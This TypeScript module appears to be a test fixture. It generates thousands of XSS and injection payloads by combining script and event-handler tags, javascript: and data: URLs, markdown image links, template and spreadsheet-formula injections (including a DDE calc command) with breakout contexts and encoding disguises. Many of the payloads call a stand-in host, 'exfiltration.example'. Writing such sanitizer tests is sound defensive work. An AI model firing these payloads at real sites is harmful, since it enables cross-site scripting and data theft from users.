/** Where a text that came alive would send what it sees; nothing answers there. */
export const ELSEWHERE = "exfiltration.example";

/** Ways to run something, or to ask another machine for something. U is an address elsewhere, S a script. */
const ALIVE = [
  "<script>S</script>",
  "<script src=U></script>",
  "<img src=x onerror=S>",
  "<img src=U>",
  '<img srcset="U 1x">',
  "<svg onload=S>",
  "<svg><animate onbegin=S attributeName=x dur=1s>",
  "<svg><use href=U#x>",
  "<svg><foreignObject><iframe src=javascript:S>",
  "<svg><script href=U></script></svg>",
  '<math><maction actiontype="statusline" xlink:href="javascript:S">x</maction></math>',
  "<math><mi//xlink:href=javascript:S>x",
  "<iframe src=javascript:S>",
  "<iframe srcdoc='<script>S</script>'>",
  "<object data=U>",
  "<embed src=U>",
  "<link rel=stylesheet href=U>",
  "<link rel=preload as=image href=U>",
  "<link rel=dns-prefetch href=U>",
  "<base href=U>",
  "<meta http-equiv=refresh content='0;url=U'>",
  "<form action=U><button autofocus>x</button></form>",
  "<input autofocus onfocus=S>",
  "<input type=image src=U>",
  "<details open ontoggle=S>x</details>",
  "<video poster=U autoplay onerror=S><source src=U></video>",
  "<audio src=U autoplay onerror=S>",
  "<body background=U onload=S>",
  "<table background=U><td>x",
  "<marquee onstart=S>x</marquee>",
  "<style>@import 'U'; body { background: url(U) }</style>",
  "<div style=\"background:url('U')\">x</div>",
  "<a href=javascript:S>x</a>",
  "<a href=U ping=U>x</a>",
  "<template shadowrootmode=open><img src=U></template>",
  "<x contenteditable onbeforeinput=S autofocus tabindex=1>x",
  "![picture](U)",
  "![picture][r]\n\n[r]: U",
  "[link](javascript:S)",
  "[link](data:text/html,<script>S</script>)",
  "<U>",
  "# Heading\n\n![a](U 'title')\n\n- one\n- two <img src=U>",
  "> quoted <img src=x onerror=S>\n\n[a](U)",
  "```html\n<img src=U>\n```",
  "javascript:S",
  "data:text/html,<script>S</script>",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='S'/>",
  "U.png",
  "vbscript:S",
  "{{constructor.constructor('S')()}}",
  "${S}",
  "<%= S %>",
  '=HYPERLINK("U","x")',
  '=WEBSERVICE("U")',
  "@SUM(1)*cmd|' /C calc'!A0",
  '{"__proto__":{"innerHTML":"<img src=U>"},"dangerouslySetInnerHTML":{"__html":"<img src=U>"}}',
  "\u202e<img src=U>\u202c",
  "<\u0000script>S</script>",
  "<noscript><p title='</noscript><img src=x onerror=S>'>",
  "<!--><img src=x onerror=S>-->",
] as const;

/** Where it may have landed, and how to get out of there. */
const AROUND = [
  "T",
  '">T',
  "'>T",
  "</script>T",
  "</textarea></title></style>T",
  "-->T",
  "]]>T",
  '" onmouseover="S" x="T',
  "\\u003cb\\u003eT",
  "`T`",
] as const;

const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll(/<(\w)/g, (_, letter: string) => `<${letter.toUpperCase()}`),
  (text) => text.replaceAll("javascript:", "java\tscript\n:").replaceAll("=", "\n=\n"),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&#x3e;").replaceAll('"', "&quot;"),
  (text) => text.replaceAll("<", "\uff1c\u2028<").replaceAll(" ", "/"),
];

/**
 * Texts that would run a script or ask another machine where a page took them for markup: every way, in every place, in every disguise.
 * Each carries `zqNz` with its number, by which one knows it again. NUL is not among them: the door refuses it.
 */
export function hostileTexts(): string[] {
  const texts: string[] = [];
  for (const alive of ALIVE)
    for (const around of AROUND)
      for (const disguise of DISGUISES) {
        const number = texts.length;
        const address = `//${ELSEWHERE}/${number}`;
        const filled = around
          .replace("T", () => alive)
          .replaceAll(/\bU\b/g, `https:${address}`)
          .replaceAll(/\bS\b/g, `alert(${number})`);
        texts.push(`zq${number}z ${disguise(filled).replaceAll("\u0000", "\u0001")}`);
      }
  return texts;
}

/** The numbers of those texts that stand in what a page shows. */
export function numbersIn(shown: string): number[] {
  return [...shown.matchAll(/zq(\d+)z/g)].map((match) => Number(match[1]));
}
